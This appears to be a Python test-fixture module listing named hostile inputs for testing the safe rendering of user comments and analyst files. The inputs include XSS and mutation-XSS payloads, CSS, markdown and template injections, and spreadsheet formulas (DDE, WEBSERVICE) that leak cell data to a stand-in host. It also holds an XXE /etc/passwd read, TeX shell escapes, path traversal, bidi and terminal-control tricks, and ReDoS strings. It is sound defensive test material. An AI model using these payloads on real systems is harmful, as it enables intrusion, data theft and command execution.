"""What strangers may write under an article, and analysts into the files beside it.

Whatever would run sets `window.hurt`; whatever would load asks a host that does not exist. In the table
`§run` stands for setting the flag to the payload's name, `§flag` for setting it to 1, and `§ask` for an
address of that host which ends in the payload's name: so a test that sees either knows whose it is.
"""

from __future__ import annotations

import re
from typing import NamedTuple

HOST = "hostile.invalid"
# Hides, reorders or commands a terminal: nothing that is shown may hold it.
UNSEEN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\xad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180e\u200b\u200e\u200f"
    "\u2028-\u202e\u2060-\u206f\u2800\u3164\ufeff\uffa0\ufff9-\ufffb\ud800-\udfff"
    "\U0001bca0-\U0001bca3\U0001d173-\U0001d17a\U000e0000-\U000e0fff]"
)


class Payload(NamedTuple):
    name: str
    text: str


_TEXTS = {
    # script
    "script": "<script>§run</script>", "script-case": "<ScRiPt >§run</sCrIpT\t>",
    "script-nested": "<scr<script>ipt>§run</scr</script>ipt>", "script-unclosed": "<script>§run//",
    "script-src": "<script src=§ask.js></script>", "script-slash": "<script/x>§run</script>",
    "script-after-end": "</script><script>§run</script>",
    "script-in-textarea": "</textarea><script>§run</script>",
    "script-in-pre": "</pre></code></div><script>§run</script>",
    "script-in-title": "</title><script>§run</script>",
    "script-in-style": "</style><script>§run</script>",
    "script-module": "<script type=module>import '§ask.mjs'</script>",
    "script-data": '<script src="data:text/javascript,§run"></script>',
    "script-svg": "<svg><script>§run</script></svg>",
    "script-cdata": "<svg><![CDATA[><script>§run</script>]]></svg>",
    "script-comment": "<!--><script>§run</script>-->",
    "script-comment-dash": "--><script>§run</script><!--",
    "script-noscript": '<noscript><p title="</noscript><script>§run</script>"></noscript>',
    "script-template": "<template><script>§run</script></template>",
    "script-conditional": "<!--[if gte IE 4]><script>§run</script><![endif]-->",
    "script-full-width": "＜script＞§run＜/script＞",
    # handler
    "img-error": '<img src=x onerror="§run">', "img-unquoted": "<img src=x onerror=§run>",
    "img-backtick": "<img src=`x` onerror=`§run`>", "img-slash": "<img/src=x/onerror=§run>",
    "img-unclosed": "<img src=x onerror=§run //", "img-newline": "<img\nsrc=x\nonerror\n=\n§run>",
    "img-entity": "<img src=x onerror=&#119;indow.hurt='img-entity'>", "svg-load": "<svg onload=§run>",
    "svg-slash": "<svg/onload=§run//",
    "svg-animate": "<svg><animate onbegin=§run attributeName=x dur=1s>",
    "svg-set": "<svg><a><set attributeName=href to=javascript:§run /><text y=20>go</text></a></svg>",
    "svg-use": '<svg><use href="§ask.svg#x"/></svg>',
    "svg-foreign": '<svg><foreignObject><iframe srcdoc="<script>§run</script>"></foreignObject></svg>',
    "body-load": "<body onload=§run>", "details-toggle": "<details open ontoggle=§run>x</details>",
    "input-focus": "<input autofocus onfocus=§run>",
    "select-focus": "<select autofocus onfocus=§run></select>",
    "video-error": "<video><source onerror=§run></video>",
    "audio-src": "<audio src=§ask.mp3 autoplay onerror=§run></audio>",
    "marquee-start": "<marquee onstart=§run>x</marquee>",
    "custom-focus": "<x onfocus=§run autofocus tabindex=1>x</x>",
    "style-animation": "<style>@keyframes k{}</style><b style='animation:k 1s'"
    " onanimationstart=§run>x</b>",
    "popover": "<button popovertarget=p>x</button><p popover id=p onbeforetoggle=§run>x</p>",
    "break-double": '" onmouseover="§run" autofocus onfocus="§run',
    "break-single": "' onmouseover='§flag' autofocus onfocus='§flag",
    "break-backtick": "` onmouseover=`§flag` autofocus onfocus=`§flag",
    "break-tag": "\"'><svg/onload=§run>",
    "mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1'
    ' onerror=§run&gt;">',
    "mutation-form": '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>'
    '<img onerror=§run src>">',
    # element
    "iframe": "<iframe src=§ask></iframe>",
    "iframe-script": '<iframe src="javascript:parent.§run"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>parent.§run</script>"></iframe>',
    "object": "<object data=§ask.swf></object>",
    "object-script": '<object data="javascript:§run"></object>', "embed": "<embed src=§ask.pdf>",
    "form": "<form action=§ask><input name=q value=secret><button>Go</button></form>",
    "form-action": '<form id=f></form><button form=f formaction="javascript:§run">Go</button>',
    "meta-refresh": '<meta http-equiv=refresh content="0;url=§ask">',
    "meta-charset": "<meta charset=utf-7>+ADw-script+AD4-window.hurt+AD0-1+ADw-/script+AD4-",
    "base": "<base href=§ask/>", "link-sheet": "<link rel=stylesheet href=§ask.css>",
    "link-prefetch": "<link rel=prefetch href=§ask><link rel=dns-prefetch href=//hostile.invalid>",
    "img-src": "<img src=§ask.png>", "img-srcset": '<img srcset="§ask.png 1x">',
    "picture": "<picture><source srcset=§ask.webp><img></picture>",
    "video-poster": "<video poster=§ask.png></video>",
    "track": "<video><track src=§ask.vtt default></video>",
    "body-background": "<body background=§ask.png>",
    "table-background": "<table background=§ask.png><tr><td>x</table>",
    "math-link": '<math href="javascript:§run"><mi>x</mi></math>',
    "clobber": "<a id=hurt name=body>x</a><img name=getElementById><form name=cookie></form>",
    "closing": "</p></blockquote></div></main></body></html>after the end",
    "plaintext": "<plaintext>and all that follows", "comment-open": "<!-- and all that follows",
    "doctype": '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]><p>&x;</p>',
    # style
    "style-import": "<style>@import url(§ask.css);</style>",
    "style-hide": "<style>*{display:none!important}</style>hidden",
    "style-cover": '<div style="position:fixed;inset:0;background:red;z-index:9999">cover</div>',
    "style-url": "<p style=\"background:url('§ask.png')\">x</p>",
    "style-expression": '<p style="width:expression(§run)">x</p>',
    "style-binding": '<p style="-moz-binding:url(§ask#x);behavior:url(§ask)">x</p>',
    "style-escape": "<p style=\"background:\\75\\72\\6C('§ask.png')\">x</p>",
    "style-class": '<span class="skip rj-say" style="font-size:900px;color:transparent">x</span>',
    "style-break": "red;}</style>body{visibility:hidden}",
    "font-face": "<style>@font-face{font-family:x;src:url(§ask.woff)}*{font-family:x}</style>",
    # address
    "link-script": '<a href="javascript:§run">here</a>',
    "link-tab": '<a href="java\tscript:§run">here</a>',
    "link-entity": '<a href="&#106;avascript&colon;§run">here</a>',
    "link-control": '<a href="\x01javascript:§run">here</a>',
    "link-case": '<a href="  JaVaScRiPt:§run">here</a>',
    "link-data": '<a href="data:text/html,<script>§run</script>">here</a>',
    "link-base64": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">here</a>',
    "link-vbscript": "<a href='vbscript:msgbox(1)'>here</a>",
    "link-file": "<a href=file:///etc/passwd target=_blank ping=https://hostile.invalid/ping>here</a>",
    "link-blob": '<a href="blob:https://hostile.invalid/1">here</a>',
    "address-script": "javascript:§run", "address-percent": "javascript:%77indow.hurt=1",
    "address-bare": "Look at §ask and www.hostile.invalid/address-bare and mailto:a@hostile.invalid",
    # markdown
    "md-link": "[here](javascript:§run)", "md-image": "![alt](§ask.png)",
    "md-reference": '[here][1]\n\n[1]: javascript:§run "title"',
    "md-autolink": "<javascript:§run> <§ask>", "md-heading": "# A heading\n\nAnother\n=======",
    "md-table": "| a | b |\n|---|---|\n| <b>1</b> | ![x](x) |",
    "md-fence": "```html\n<script>§run</script>\n```", "md-fence-open": "~~~~\nand all that follows",
    "md-mermaid": '```mermaid\ngraph TD; A-->B; click A href "javascript:§run"\n```',
    "md-footnote": "A word[^1].\n\n[^1]: <img src=x onerror=§flag>",
    "md-emphasis": "**bold** *italic* ~~struck~~ `code` _under_ \\*escaped\\*",
    "md-list": "- [ ] one\n- [x] two\n1. three\n> four",
    "md-attachment": "![x](attachment:x.png) {.class #id onload=§flag}",
    # mathematics
    "tex-inline": "It costs $x^2$ or $5 and $6, or \\$7",
    "tex-display": "$$\\frac{a}{b}$$ and \\[\\sum_i x_i\\]",
    "tex-paren": "\\(\\alpha\\) and \\\\(\\beta\\\\)", "tex-href": "$\\href{javascript:§run}{x}$",
    "tex-require": "$\\require{html}\\style{position:fixed;inset:0}{x}$",
    "tex-class": "\\(\\class{skip}{x}\\cssId{main}{y}\\)",
    "tex-begin": "\\begin{equation}x\\end{equation} \\begin{align*}a&=b\\end{align*}",
    "tex-macro": "$\\def\\x{\\x\\x}\\x$ $\\newcommand{\\a}{\\a}\\a$",
    "tex-input": "\\input{/etc/passwd} \\write18{id} \\immediate\\openout",
    "tex-unicode": "$\\unicode{x41}$ \\ref{x} \\eqref{y} \\label{z}",
    "mathtext": "$\\frac{1}{2}$ and $\\mathdefault{x}$",
    "mathtext-open": "an odd $ and } a brace { and $\\frac{1$",
    "mathtext-unknown": "$\\nosuchthing{x}$ $_$ $^$ $$ $ $",
    # entity
    "entity": "&lt;script&gt;entity&lt;/script&gt; &amp; &quot; &nbsp;",
    "entity-double": "&amp;lt;script&amp;gt; &amp;amp;amp;",
    "entity-numeric": "&#60;script&#62; &#x3c;img src=x onerror=§flag&#x3e;",
    "entity-open": "&ltscript&gt &lt &copy &notit; &#60 &#x3C",
    "entity-odd": "&#0; &#x202e; &#xd800; &#128; &#99999999; &bogus; &",
    # template
    "jinja": "{{ config }} {{ ''.__class__.__mro__ }} {% for x in y %} {# note #}",
    "jinja-run": "{% raw %}{{ resources }}{% endraw %} {%- endblock -%}",
    "f-string": "{0} {name!r} {self.__dict__} {{ } }", "percent": "%s %d %n %(name)s 100% %%",
    "dollar-brace": "${§flag} $(touch hurt) `touch hurt` $HOME",
    "erb": "<%= `touch hurt` %> <?php echo 1; ?> <% 1 %>",
    "angular": "{{constructor.constructor('§flag')()}} [[7*7]] #{7*7} *{7*7}",
    "backslash": "\\n \\u202e \\x1b[31m \\1 \\g<0> \\",
    # unseen
    "bidi-override": "the \u202egnp.exe\u202c file",
    "bidi-embedding": "a \u202bembedded\u202c and \u202aother\u202c",
    "bidi-isolate": "a \u2067isolated\u2069 and \u2066left\u2069 \u2068open",
    "bidi-marks": "a\u200eb\u200fc\u061cd", "bidi-open": "never closed \u202e\u2067 and on",
    "zero-width": "pro\u200bpa\u200bganda \u2060joined\u2060 \ufeffmark",
    "zero-width-joiner": "pro\u200dpaganda a\u200cb", "soft-hyphen": "pro\xadpa\xadganda",
    "control": "a\x01b\x02c\x08d\x0be\x0cf\x0eg\x7fh\x80i\x85j\x9fk",
    "ansi-colour": "\x1b[31mred\x1b[0m \x1b[2J\x1b[H gone",
    "ansi-title": "\x1b]0;owned\x07 \x1b]8;;https://hostile.invalid\x07link\x1b]8;;\x07",
    "ansi-c1": "a \x9b31m red \x9d0;title\x9c", "backspaces": "safe\x08\x08\x08\x08evil",
    "carriage": "safe words\x0dover written", "bom-inside": "a\ufeffb \ufffe c",
    "separators": "one\u2028two\u2029three", "file-separators": "one\x1ctwo\x1dthree\x1efour\x1ffive",
    "tags": "a flag 🏴\U000e0067\U000e0062\U000e007f and \U000e0068\U000e0069 hidden",
    "selectors": "a heart ❤️ and a word︀s", "selectors-more": "data󠄀󠄁 hidden in a letter",
    "annotation": "a \ufff9base\ufffaruby\ufffb", "fillers": "aㅤbᅟcᅠdﾠe⠀f",
    "grapheme-joiner": "a͏b\u180ec឴d", "noncharacter": "a\ufdd0b\uffffc\U0001ffffd\U0010ffffe",
    "private": "a\ue000b\U000f0000c",
    # script-of-the-world
    "hebrew": "שלום (5 of 9) עולם, 12 – 34!", "arabic": "مرحبا <b>بالعالم</b> 50 % (n = 9)",
    "persian-joiner": "می\u200cخواهم", "mixed": "He said “שלום” and 3 > 2, then “ok”",
    "zalgo": "Z" + "\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034c\u0334\u0319\u0324\u031e" * 4
    + "algo",
    "stacked": "a" + "\u0300" * 300 + " ends", "homoglyphs": "Тhe Presіdеnt оf Сhinа pаypаl",
    "full-width": "＝１＋１ ＠ＳＵＭ ‘’“” ＜b＞",
    "emoji": "👩\u200d👩\u200d👧\u200d👦 🏳️\u200d🌈 🇬🇧 👍🏽 1️⃣",
    "ligature": "﷽ ﬀﬁ ǆ ŉ ß İ ı K Å", "thai": "ที่นี่ไม่มีช่องว่าง", "chinese": "这是一条评论。没有空格！",
    # spreadsheet
    "formula-equals": "=1+1", "formula-plus": "+1+1", "formula-minus": "-1+1", "formula-at": "@SUM(1+1)",
    "formula-dde": "=cmd|' /C calc'!A0", "formula-pipe": "|calc",
    "formula-link": '=HYPERLINK("https://hostile.invalid/?"&A1,"here")',
    "formula-web": '=WEBSERVICE("https://hostile.invalid/"&A1)', "formula-wide": "＝1+1 ＋1 －1 ＠SUM(1)",
    "formula-quoted": '"=1+1"', "formula-apostrophe": "'=1+1", "formula-in-cell": 'x",=1+1,"y',
    "formula-in-line": "x\n=1+1\n-2", "formula-in-tab": "x\t=1+1", "formula-semicolon": 'x;=1+1;"y',
    "formula-space": "x \xa0=1+1", "csv-quotes": 'a ""quote"", one " alone, and \'',
    "csv-header": "comment_id,text\nc001,changed",
    # name
    "path-up": "../../../etc/passwd",
    "path-windows": "..\\..\\windows\\system32\\cmd.exe C:\\ \\\\hostile.invalid\\x",
    "path-absolute": "/etc/passwd ~root file:///etc/passwd", "option": "--out=/tmp/hurt -rf --help",
    "reserved": "CON NUL AUX PRN COM1 LPT1.txt", "proto": "__proto__", "constructor": "constructor",
    "dunder": "__class__ __init__ __dict__", "nan": "nan", "none": "None", "null": "null",
    "true": "TRUE", "exponent": "1e5", "infinity": "-inf", "unknown": "unknown", "na": "#N/A",
    "index": "index", "digits": "007", "date": "2024-01-01", "long-name": "long" * 60,
    # notebook
    "json-end": '"}]}],"cells":[{"cell_type":"markdown"}</script><script>§flag</script>',
    "json-escape": "\\u003cscript\\u003e§flag\\u003c/script\\u003e",
    "magic": "%system touch hurt !touch hurt ?? %%html",
    "widget": 'application/vnd.jupyter.widget-view+json {"model_id":"x"}',
    "alt-break": 'x" onload="§flag" data-x="', "toml": '""" \n[source]\nsha256 = "0" \'\'\'',
}  # fmt: skip


def _payload(name: str, text: str) -> Payload:
    run, ask = f"window.hurt='{name}'", f"https://{HOST}/{name}"
    return Payload(name, text.replace("§run", run).replace("§flag", "window.hurt=1").replace("§ask", ask))


PAYLOADS = [_payload(name, text) for name, text in _TEXTS.items()]
BY_NAME = {one.name: one for one in PAYLOADS}

# What takes long where a pattern goes back and forth, or a loop starts anew at every letter.
MOUNTAINS = {
    "word": "a" * 1_000_000, "emoji": "👩‍👩‍👧‍👦" * 10_000, "brackets": "(" * 100_000,
    "marks": '"' * 100_000, "opening marks": "“" * 100_000,
    "nested marks": "“" * 20_000 + "x" + "”" * 20_000, "odd marks": '"a ' * 33_333,
    "abbreviations": "a." * 50_000, "exclamations": "!" * 100_000, "ellipses": "..." * 30_000 + " x",
    "initials": "A. " * 30_000, "numbers": "1." * 50_000, "hyphens": "a-" * 50_000,
    "apostrophes": "a'" * 50_000, "blank lines": "x\n" + "\n" * 50_000 + "y",
    "spaces": "x" + " " * 10_000_000 + "y", "tabs": "x" + "\t" * 200_000 + "y",
    "addresses": "http://a.b/" * 9_000, "brackets in pairs": "()" * 50_000, "angles": "<" * 100_000,
    "dollars": "$" * 100_000, "backslashes": "\\" * 100_000, "combining": "a" + "\u0300" * 100_000,
    "no": "not " * 25_000 + "good", "names": "Trump " * 20_000,
}  # fmt: skip
